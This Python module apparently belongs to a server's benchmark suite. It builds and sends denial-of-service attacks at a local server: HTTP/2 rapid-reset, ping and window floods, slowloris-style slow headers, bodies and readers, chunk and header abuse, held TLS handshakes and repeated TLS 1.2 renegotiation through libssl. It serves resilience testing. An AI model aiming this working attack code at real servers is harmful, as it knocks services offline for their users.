# SPDX-License-Identifier: MIT
"""attacker - the attacks that bench/attacks makes, and who sends them.

A plan says what one connection does; the attacker keeps a number of them under way, and opens another
whenever one is ended. What was sent is what the server's kernel has acknowledged: what waits on this
side when a connection is cut never left. A server that ends a connection has often read more than it
looked at: what is counted there is more than what it worked on.
"""

import ctypes
import fcntl
import re
import select
import socket
import ssl
import struct
import termios
import time
from collections import deque
from typing import NamedTuple

import h2_attacks  # bench/attacks has put tests/lib into the path

SMALL, LARGE = 1024, 1 << 20  # bodies that the origin has
ATTACKER = "127.0.0.66"
BIND_ADDRESS_NO_PORT = 24  # IP_BIND_ADDRESS_NO_PORT, which the socket module does not name
BODY_BYTES = 1 << 18
CROWD = 1000      # connections of an attack that is slow
DRIP_S = 0.5      # between two bytes of one of them
DRIP_TURN_S = 0.01
SIP_BYTES, SIP_BUFFER = 256, 4096
NOT_YET = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


class Plan(NamedTuple):
    """What one connection of an attack does."""
    opening: bytes
    body: bytes = b""
    units: int = 1         # in the body; without a body, a connection is one
    repeats: bool = False  # the body, over and over
    end: str = "closed"    # then: "closed" at once, "answer" of the server awaited, "seen": the
    #                        server sees the end and ends it too, "held" until somebody ends it
    listener: str = "h1"   # or "h2" (cleartext), "tls"
    alpn: str = ""         # over TLS; "": bytes as they are, to whatever listener
    drip: bytes = b""      # of a slow one: sent each DRIP_S, when the opening has left
    sips: bool = False     # of a slow one: reads SIP_BYTES each DRIP_S, and no more
    connections: int = 0   # at once; 0: as the caller likes


# ---- what is sent ----

def from_script(script, end="seen", listener="h2", alpn=""):
    pieces = b"".join(script.pieces)
    times = max(1, BODY_BYTES // max(len(pieces), 1)) if script.repeats else 1
    return Plan(script.opening(), pieces * times, script.units * len(script.pieces) * times,
                script.repeats, end, listener, alpn)


def h2(name, path=f"/{SMALL}", **more):
    return lambda: from_script(h2_attacks.ATTACKS[name](path), **more)


def held_streams(**more):
    frames = b"".join(h2_attacks.get(stream, f"/{LARGE}") for stream in range(1, 200, 2))
    return from_script(h2_attacks.Script([frames], 100, False, window=0), end="held", **more)


def request(target=f"/{SMALL}", fields="", method="GET"):
    return f"{method} {target} HTTP/1.1\r\nHost: a\r\n{fields}\r\n".encode()


def chunked(body, units):
    return Plan(request(fields="Transfer-Encoding: chunked\r\n", method="POST"), body, units, True)


def client_hello():
    """A ClientHello with a key share, as bytes: sending it again costs nothing."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    heard, said = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(heard, said).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return said.read()


def slow(opening, **more):
    return Plan(opening, end="held", connections=CROWD, **more)


TLS_H2 = {"listener": "tls", "alpn": "h2"}
LARGE_ONES = ("settings_windows", "priority_flood", "data_dribble")
NOBODY = ("nobody", "tls_nobody")
RENEGOTIATION = "tls_renegotiation"
ATTACKS = {
    "nobody": lambda: Plan(b""),
    **{name: h2(name, f"/{LARGE if name in LARGE_ONES else SMALL}") for name in h2_attacks.ATTACKS},
    "rapid_reset_miss": h2("rapid_reset", "/o/#"),
    "zero_windows": held_streams,
    "h1_connections": lambda: Plan(b"", end="seen"),
    "h1_connection_each": lambda: Plan(b"", request(fields="Connection: close\r\n"), end="answer"),
    "h1_pipelined": lambda: Plan(b"", request() * 1000, 1000, True),
    "h1_large_header": lambda: Plan(b"", request(fields=f"X: {'y' * 100}\r\n" * 2000),
                                    end="answer"),
    "h1_no_request": lambda: Plan(b"", b"\x16\x03\x01 nonsense\r\n\r\n", end="answer"),
    "h1_chunk_extensions": lambda: chunked(b"1;" + b"e" * 200 + b"\r\nx\r\n", 1),
    "h1_tiny_chunks": lambda: chunked(b"1\r\nx\r\n" * 10000, 10000),
    "h1_slow_headers": lambda: slow(request()[:-2], drip=b"X: y\r\n"),
    "h1_slow_bodies": lambda: slow(request(fields="Content-Length: 1000000\r\n", method="POST"),
                                   drip=b"x"),
    "h1_slow_readers": lambda: slow(request(f"/{LARGE}"), sips=True),
    "tls_nobody": lambda: Plan(b"", listener="tls"),
    "tls_rapid_reset": h2("rapid_reset", **TLS_H2),
    "tls_made_reset_zero_update": h2("made_reset_zero_update", **TLS_H2),
    "tls_ping_flood": h2("ping_flood", **TLS_H2),
    "tls_zero_windows": lambda: held_streams(**TLS_H2),
    "tls_handshakes": lambda: Plan(b"", listener="tls", alpn="h2"),
    "tls_half_handshakes": lambda: Plan(b"", client_hello(), end="answer", listener="tls"),
    "tls_hellos_held": lambda: slow(client_hello()[:100], listener="tls"),
    RENEGOTIATION: lambda: Plan(b"", listener="tls"),
}


# ---- who sends it ----

HANDSHAKE, OPENING, BODY, DRIPS, SENT = range(5)


def attacker_socket(port, receive_buffer=0):
    sock = socket.socket()
    if receive_buffer:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    sock.setsockopt(socket.IPPROTO_IP, BIND_ADDRESS_NO_PORT, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    try:
        sock.bind((ATTACKER, 0))
        sock.settimeout(5)
        sock.connect(("127.0.0.1", port))
    except OSError:
        sock.close()
        raise
    return sock


class Connection:
    def __init__(self, port, plan, context):
        self.plan, self.at, self.queued = plan, 0, 0
        self.sock = attacker_socket(port, SIP_BUFFER if plan.sips else 0)
        self.sock.setblocking(False)
        self.state = OPENING
        if context is not None:
            self.sock = context.wrap_socket(self.sock, do_handshake_on_connect=False)
            self.state = HANDSHAKE
            try:
                self.sock.do_handshake()  # says hello
            except NOT_YET:
                pass
        self.interest = self.wants()

    def send(self):
        """As much as goes now of what is to be sent next; whether all of that has gone."""
        data = self.plan.opening if self.state == OPENING else self.plan.body
        if self.at < len(data):
            sent = self.sock.send(memoryview(data)[self.at:])
            self.at += sent
            self.queued += sent if self.state == BODY else 0
        return self.at == len(data)

    def go_on(self):
        """Does what comes next, as the socket takes it; False: that is all, and it may be closed."""
        plan = self.plan
        if self.state == HANDSHAKE:
            self.sock.do_handshake()
            self.state = OPENING
        while self.state in (OPENING, BODY) and self.send():
            self.at = 0
            if self.state == OPENING:
                self.state = BODY if plan.body else DRIPS if plan.drip or plan.sips else SENT
            elif not plan.repeats:
                self.state = SENT
            else:
                return True  # others are served first
        if self.state == SENT and plan.end == "seen":
            self.sock.shutdown(socket.SHUT_WR)
        return self.state != SENT or plan.end != "closed"

    def wants(self):
        """What to wait for. Who sips does not want to know that there is more."""
        what = select.EPOLLRDHUP if self.plan.sips else select.EPOLLIN
        return what | (select.EPOLLOUT if self.state in (OPENING, BODY) else 0)

    def units(self):
        """Of the plan, as far as they have left."""
        if self.plan.drip or self.plan.sips:
            return 0  # counted as they fall
        if not self.plan.body:
            return self.state == SENT
        waiting = struct.unpack("i", fcntl.ioctl(self.sock.fileno(), termios.TIOCOUTQ, bytes(4)))[0]
        return self.plan.units * max(0, self.queued - waiting) / len(self.plan.body)


class Attacker:
    def __init__(self, port, plan, count):
        self.port, self.plan = port, plan
        self.count = plan.connections or count
        self.epoll = select.epoll()
        self.connections = {}
        self.is_slow, self.slow = bool(plan.drip or plan.sips), deque()
        self.sink = bytearray(1 << 20)
        self.opened = self.units = 0
        self.context = None
        if plan.alpn:
            self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE
            self.context.set_alpn_protocols([plan.alpn])

    def open(self):
        try:
            connection = Connection(self.port, self.plan, self.context)
        except OSError:
            return
        self.opened += 1
        self.connections[connection.sock.fileno()] = connection
        self.epoll.register(connection.sock.fileno(), connection.interest)
        if self.is_slow:
            self.slow.append(connection)

    def gather(self, seconds=10):
        """A crowd is there before anything is measured."""
        deadline = time.monotonic() + seconds
        while len(self.connections) < self.plan.connections and time.monotonic() < deadline:
            self.open()

    def close(self, number):
        connection = self.connections.pop(number)
        self.units += connection.units()
        connection.sock.close()

    def serve(self, number, events):
        """One event; whether the connection is still wanted."""
        connection = self.connections[number]
        is_waiting = connection.state == SENT
        if connection.state in (HANDSHAKE, OPENING, BODY):
            try:
                if not connection.go_on():
                    return False
            except NOT_YET:
                pass
            if connection.interest != connection.wants():
                connection.interest = connection.wants()
                self.epoll.modify(number, connection.interest)
        if not events & ~select.EPOLLOUT or connection.state == HANDSHAKE:
            return True
        if self.plan.sips:
            return False  # no more will come
        try:
            if not connection.sock.recv_into(self.sink):
                return False
        except NOT_YET:
            return True
        return not is_waiting or self.plan.end != "answer"

    def drip(self):
        """The turn of some of those that are slow."""
        for _ in range(int(self.count * DRIP_TURN_S / DRIP_S)):
            if not self.slow:
                return
            connection = self.slow.popleft()
            number = connection.sock.fileno()
            if number < 0:  # it was closed
                continue
            self.slow.append(connection)
            if connection.state != DRIPS:
                continue
            try:
                if self.plan.sips:
                    connection.sock.recv(SIP_BYTES)
                else:
                    connection.sock.send(self.plan.drip)
                self.units += 1
            except NOT_YET:
                pass
            except OSError:
                self.close(number)

    def run(self, seconds):
        deadline = time.monotonic() + seconds
        turn = 0.0
        while (now := time.monotonic()) < deadline:
            # One that is refused is tried again at once.
            while len(self.connections) < self.count and time.monotonic() < deadline:
                self.open()
            if self.is_slow and now >= turn:
                turn = now + DRIP_TURN_S
                self.drip()
            for number, events in self.epoll.poll(DRIP_TURN_S if self.is_slow else 0.1):
                try:
                    is_wanted = self.serve(number, events)
                except OSError:
                    is_wanted = False
                if not is_wanted:
                    self.close(number)
        for number in list(self.connections):
            self.close(number)


# ---- two that are otherwise ----

def spin(seconds):
    """As busy as an attacker, with a pair of sockets."""
    one, other = socket.socketpair()
    deadline, piece = time.monotonic() + seconds, bytes(BODY_BYTES)
    one.setblocking(False)
    while time.monotonic() < deadline:
        other.recv(one.send(piece))


class Renegotiator:
    """Asks for another handshake on a connection of TLS 1.2 (1.3 knows none), which Python's ssl
    does not: so this is libssl itself."""

    TLS1_2, SET_MAX_VERSION = 0x0303, 124
    VERIFY_NONE = 0

    def __init__(self, port):
        self.port = port
        self.opened = self.units = self.granted = 0  # granted: goal 0
        name = re.search(r"\S*libssl\.so\.3\S*", open("/proc/self/maps", encoding="ascii").read())
        self.ssl = ctypes.CDLL(name[0] if name else "libssl.so.3")
        for function in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
            getattr(self.ssl, function).restype = ctypes.c_void_p
        self.context = ctypes.c_void_p(self.ssl.SSL_CTX_new(
            ctypes.c_void_p(self.ssl.TLS_client_method())))
        self.ssl.SSL_CTX_set_verify(self.context, self.VERIFY_NONE, None)
        self.ssl.SSL_CTX_ctrl(self.context, self.SET_MAX_VERSION, ctypes.c_long(self.TLS1_2), None)

    def gather(self):
        """Comes alone."""

    def ask(self):
        """Once on a new connection, and again for as long as it is granted."""
        sock = attacker_socket(self.port)
        sock.setblocking(True)  # libssl reads it
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 5, 0))
        self.opened += 1
        connection = ctypes.c_void_p(self.ssl.SSL_new(self.context))
        self.ssl.SSL_set_fd(connection, sock.fileno())
        if self.ssl.SSL_connect(connection) == 1:
            granted = 1
            while granted == 1:
                self.units += 1
                self.ssl.SSL_renegotiate(connection)
                granted = self.ssl.SSL_do_handshake(connection)
                self.granted += granted == 1
        self.ssl.SSL_free(connection)
        self.ssl.ERR_clear_error()
        sock.close()

    def run(self, seconds):
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            try:
                self.ask()
            except OSError:
                pass


def make(name, port, count):
    """Who carries out the attack: gather(), run(seconds), then opened and units."""
    if name == RENEGOTIATION:
        return Renegotiator(port)
    return Attacker(port, ATTACKS[name](), count)
